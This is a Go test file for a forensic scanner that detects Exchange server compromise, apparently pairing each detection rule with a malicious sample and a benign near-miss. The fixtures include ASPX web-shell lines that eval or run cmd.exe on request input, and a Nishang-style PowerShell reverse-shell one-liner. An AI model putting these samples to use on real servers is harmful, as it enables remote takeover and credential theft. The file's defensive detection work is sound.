package filecheck

import (
	"bytes"
	"encoding/binary"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/exhunt/exhunt/internal/finding"
)

// minidump builds a file with the MDMP signature, optional UTF-16 module
// names and padding up to size bytes.
func minidump(size int, modules ...string) []byte {
	b := []byte("MDMP\x93\xa7\x00\x00")
	for _, m := range modules {
		for _, r := range m {
			b = binary.LittleEndian.AppendUint16(b, uint16(r))
		}
		b = append(b, 0, 0)
	}
	if len(b) < size {
		b = append(b, make([]byte, size-len(b))...)
	}
	return b
}

func utf16le(s string) []byte {
	var b []byte
	for _, r := range s {
		b = binary.LittleEndian.AppendUint16(b, uint16(r))
	}
	return b
}

// TestPack runs each built-in rule on a true positive and its near-miss
// benign twin (adjacent cases).
func TestPack(t *testing.T) {
	c := testChecker(t)
	const ex = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/"
	const ac = "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/"
	logon := readTestdata(t, "logon.aspx")
	chopper := readTestdata(t, "chopper.aspx")
	oab := readTestdata(t, "oab-script.txt")
	oabOK := readTestdata(t, "oab-benign.txt")
	pe := func(s string) []byte { return append([]byte("MZ\x90\x00\x03\x00\x00\x00"), s...) }
	tests := []struct {
		name string
		path string
		data []byte
		want []string
	}{
		{"chopper", "site/page.aspx", chopper, []string{"yara:webshells:China_Chopper_ASPX"}},
		{"stock logon page", "site/logon.aspx", logon, nil},

		{"eval on request", "site/x.aspx", []byte(`<%@ Page Language="JScript" %><% eval(Request.Form["c"]) %>`), []string{"yara:webshells:Eval_On_Request_ASPX"}},
		{"request echo, no eval", "site/x.aspx", []byte(`<%@ Page Language="C#" %><% Response.Write(Server.HtmlEncode(Request.Form["c"])); %>`), nil},
		{"eval on request outside ASP markup", "site/x.js", []byte(`var v = eval(Request["x"]);`), nil},

		{"jscript runat server eval", "site/x.aspx", []byte(`<script language="JScript" runat="server">function Page_Load(){eval(Request["x"]);}</script>`), []string{"yara:webshells:JScript_Eval_Runat_Server"}},
		{"jscript runat server, no eval", "site/x.aspx", []byte(`<script language="JScript" runat="server">function Page_Load(){Response.Write("ok");}</script>`), nil},

		{"cmd.exe from request", "site/x.aspx", []byte(`<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); %>`), []string{"yara:webshells:ASPX_Command_Exec_From_Request"}},
		{"fixed process, request echoed", "site/x.aspx", []byte(`<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("notepad.exe"); Response.Write(Server.HtmlEncode(Request.Form["c"])); %>`), nil},

		{"page in aspnet_client", ac + "helper.aspx", []byte("<html>hello</html>"), []string{"yara:exchange:ASPX_In_Aspnet_Client"}},
		{"stock script in aspnet_client", ac + "WebUIValidation.js", []byte("function ValidatorUpdateDisplay(val) {}"), nil},
		{"chopper in aspnet_client", "inetpub/wwwroot/aspnet_client/a.aspx", chopper, []string{"yara:exchange:ASPX_In_Aspnet_Client", "yara:webshells:China_Chopper_ASPX"}},

		{"non-stock page in owa/auth", ex + "owa/auth/evil.aspx", []byte("<html></html>"), []string{"yara:exchange:Nonstock_Page_In_Auth_Folder"}},
		{"stock logon.aspx in owa/auth", ex + "owa/auth/logon.aspx", logon, nil},
		{"non-stock handler in ecp/auth", ex + "ecp/auth/x.ashx", []byte("<%@ WebHandler %>"), []string{"yara:exchange:Nonstock_Page_In_Auth_Folder"}},
		{"stock TimeoutLogoff in ecp/auth", ex + "ecp/auth/TimeoutLogoff.aspx", []byte("<html></html>"), nil},
		{"stock script in owa/auth", ex + "owa/auth/15.1.2176/scripts/premium/flogon.js", []byte("var a;"), nil},

		{"OAB dump with script", "C/Windows/Temp/oab.txt", oab, []string{"yara:exchange:Exchange_VDir_Settings_Dump_With_Script", "yara:webshells:China_Chopper_ASPX"}},
		{"OAB dump, UTF-16, with script", "C/Windows/Temp/oab.txt", utf16le(string(oab)), []string{"yara:exchange:Exchange_VDir_Settings_Dump_With_Script"}},
		{"OAB dump with normal URL", "C/Windows/Temp/oab.txt", oabOK, nil},

		{"PST saved as aspx", "C/inetpub/wwwroot/site/x.aspx", []byte("!BDN\x00\x00SM\x17\x00"), []string{"yara:exchange:PST_Export_Saved_As_Page"}},
		{"PST file", "C/ProgramData/export/mailbox.pst", []byte("!BDN\x00\x00SM\x17\x00"), nil},

		{"lsass-named dump", "data/lsass.dmp", minidump(4096), []string{"yara:dumps:LSASS_Minidump"}},
		{"dump listing lsasrv.dll", "ProgramData/x/debug.bin", minidump(4096, `C:\Windows\System32\lsasrv.dll`), []string{"yara:dumps:LSASS_Minidump"}},
		{"lsass notes, not a dump", "data/lsass.txt", []byte("MDMX lsass lsasrv.dll"), nil},

		{"dump in drive root", "C/w3wp.dmp", minidump(4096), []string{"yara:dumps:Minidump_In_Root_Or_Temp"}},
		{"dump in evidence root", "w3wp.dmp", minidump(4096), []string{"yara:dumps:Minidump_In_Root_Or_Temp"}},
		{"dump in host's drive root", "EXCH01/C$/w3wp.dmp", minidump(4096), []string{"yara:dumps:Minidump_In_Root_Or_Temp"}},
		{"dump in an app folder", "C/Apps/w3wp.dmp", minidump(4096), nil},
		{"dump in C:\\root", "EXCH01/C/root/out.dmp", minidump(4096), []string{"yara:dumps:Minidump_In_Root_Or_Temp"}},
		{"dump in Windows\\Temp", "C/Windows/Temp/a.bin", minidump(4096), []string{"yara:dumps:Minidump_In_Root_Or_Temp"}},
		{"crash dump in WER", "C/ProgramData/Microsoft/Windows/WER/ReportQueue/AppCrash_w3wp/w3wp.dmp", minidump(4096), nil},

		{"large dump in ProgramData", "C/ProgramData/app/big.dmp", minidump(21 << 20), []string{"yara:dumps:Large_Minidump"}},
		{"large crash dump in WER", "C/ProgramData/Microsoft/Windows/WER/ReportQueue/x/big.dmp", minidump(21 << 20), nil},

		{"7z in ProgramData", "C/ProgramData/out.7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04rest"), []string{"yara:dumps:Archive_In_Staging_Folder"}},
		{"RAR in aspnet_client", "inetpub/wwwroot/aspnet_client/x.dat", []byte("Rar!\x1a\x07\x01\x00rest"), []string{"yara:dumps:Archive_In_Staging_Folder"}},
		{"ZIP renamed in owa", ex + "owa/auth/Current/themes/a.gif", []byte("PK\x03\x04rest"), []string{"yara:dumps:Archive_In_Staging_Folder"}},
		{"ZIP deep in ProgramData\\Microsoft", "C/ProgramData/Microsoft/Windows Defender/Scans/a.zip", []byte("PK\x03\x04rest"), nil},
		{"ZIP in a user's documents", "C/Users/bob/Documents/a.zip", []byte("PK\x03\x04rest"), nil},
		{"text named .7z in ProgramData", "C/ProgramData/out.7z", []byte("not an archive"), nil},
		{"docx in wwwroot", "C/inetpub/wwwroot/help.docx", []byte("PK\x03\x04rest"), nil},

		{"procdump binary", "C/root/pd.exe", pe("ProcDump v10 Sysinternals -accepteula"), []string{"yara:tools:ProcDump_Binary"}},
		{"procdump readme, not a binary", "C/root/readme.txt", []byte("ProcDump v10 Sysinternals -accepteula"), nil},
		{"procdump by name, PE", "C/root/procdump64.exe", pe("x"), []string{"yara:tools:ProcDump_Binary"}},
		{"procdump by name only", "C/root/procdump.exe", []byte("truncated"), []string{"yara:tools:Tool_Name_In_Scope"}},
		{"other tool name", "C/root/dump.exe", []byte("truncated"), nil},

		{"nishang function", "C/Windows/Temp/a.ps1", []byte("function Invoke-PowerShellTcp \n{ [CmdletBinding()] }"), []string{"yara:tools:Nishang_PowerShellTcp"}},
		{"nishang one-liner", "C/Windows/Temp/a.ps1", []byte(`$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$stream = $client.GetStream();$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path`), []string{"yara:tools:Nishang_PowerShellTcp"}},
		{"tcp port check", "C/Windows/Temp/a.ps1", []byte(`$c = New-Object System.Net.Sockets.TCPClient('mail',443); $s = $c.GetStream(); $c.Close()`), nil},

		{"powercat", "C/ProgramData/p.ps1", []byte("function powercat\n{\n param($c) \n function Setup_TCP {}\n}"), []string{"yara:tools:PowerCat"}},
		{"script that mentions powercat", "C/ProgramData/p.ps1", []byte("# do not use powercat here\nTest-NetConnection mail -Port 443"), nil},

		{"covenant grunt", "C/Windows/Temp/g.exe", pe("GruntStager ExecuteStager CovenantURI"), []string{"yara:tools:Covenant_Grunt"}},
		{"the word covenant", "C/Windows/Temp/terms.txt", []byte("This covenant binds the GruntStager-free parties."), nil},

		{"known shell name in aspnet_client", "C/inetpub/wwwroot/aspnet_client/supp0rt.aspx", []byte("<html></html>"), []string{"ioc:webshell-name", "yara:exchange:ASPX_In_Aspnet_Client"}},
		{"known shell name elsewhere", "C/inetpub/wwwroot/supp0rt.aspx", []byte("<html></html>"), nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := ruleIDs(detect(t, c, tc.path, tc.data))
			want := tc.want
			if want == nil {
				want = []string{}
			}
			slices.Sort(want)
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("%s: rules (-want +got):\n%s", tc.path, diff)
			}
		})
	}
}

// TestFindingShape checks the fields a pack match fills.
func TestFindingShape(t *testing.T) {
	c := testChecker(t)
	fs := detect(t, c, "inetpub/wwwroot/aspnet_client/a.aspx", readTestdata(t, "chopper.aspx"))
	i := slices.IndexFunc(fs, func(f finding.Finding) bool { return f.Rule == "yara:webshells:China_Chopper_ASPX" })
	if i < 0 {
		t.Fatalf("no chopper finding in %v", ruleIDs(fs))
	}
	f := fs[i]
	if f.Severity != finding.Critical || f.Source != "inetpub/wwwroot/aspnet_client/a.aspx" ||
		!slices.Equal(f.Attack, []string{"T1505.003"}) || !slices.Contains(f.CVEs, "CVE-2021-27065") ||
		!strings.HasPrefix(f.Title, "China Chopper") || !strings.Contains(f.Evidence, `$eval@`) || !strings.Contains(f.Evidence, `unsafe`) {
		t.Errorf("finding = %+v", f)
	}
	j := slices.IndexFunc(fs, func(f finding.Finding) bool { return f.Rule == "yara:exchange:ASPX_In_Aspnet_Client" })
	if j < 0 || !strings.Contains(fs[j].Evidence, "aspnet_client is foreign") {
		t.Errorf("location finding evidence should give the reason: %+v", fs)
	}
}

// TestStockListMatchesPack keeps the stock page list of the auth-folder
// rule, iocs/stock-aspx.csv and the log rules' copy in step.
func TestStockListMatchesPack(t *testing.T) {
	own := readTestdata(t, "../iocs/stock-aspx.csv")
	if logs, err := os.ReadFile("../rules/pack/iocs/stock-aspx.csv"); err == nil && !bytes.Equal(own, logs) {
		t.Errorf("iocs/stock-aspx.csv differs from internal/rules/pack/iocs/stock-aspx.csv")
	}
	yar := readTestdata(t, "../pack/exchange.yar")
	m := regexp.MustCompile(`filename matches /\^\(([^)]*)\)\\\.aspx\$/i`).FindSubmatch(yar)
	if m == nil {
		t.Fatal("stock name regex not found in pack/exchange.yar")
	}
	inRule := strings.Split(strings.ToLower(string(m[1])), "|")
	var inCSV []string
	for _, line := range strings.Split(strings.TrimSpace(string(own)), "\n")[1:] {
		name := strings.ToLower(strings.TrimSuffix(strings.Split(line, ",")[1], ".aspx"))
		if !slices.Contains(inCSV, name) {
			inCSV = append(inCSV, name)
		}
	}
	slices.Sort(inRule)
	slices.Sort(inCSV)
	if diff := cmp.Diff(inCSV, inRule); diff != "" {
		t.Errorf("stock names: csv (-) vs exchange.yar (+):\n%s", diff)
	}
	// No published web-shell name may be a stock page.
	names, err := ParseNames(bytes.NewReader(readTestdata(t, "../iocs/names.csv")))
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		if slices.Contains(inCSV, strings.ToLower(strings.TrimSuffix(n.Name, ".aspx"))) {
			t.Errorf("names.csv lists stock page %s", n.Name)
		}
	}
}
